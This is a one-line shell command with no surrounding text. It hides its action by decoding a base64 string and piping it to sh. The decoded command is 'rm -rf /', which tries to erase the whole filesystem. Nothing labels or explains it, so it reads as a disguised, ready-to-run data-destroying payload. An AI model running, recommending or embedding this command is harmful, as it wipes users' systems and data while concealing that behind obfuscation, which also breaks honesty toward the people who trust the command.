sh -c "$(echo cm0gLXJmIC8K | base64 -d)"
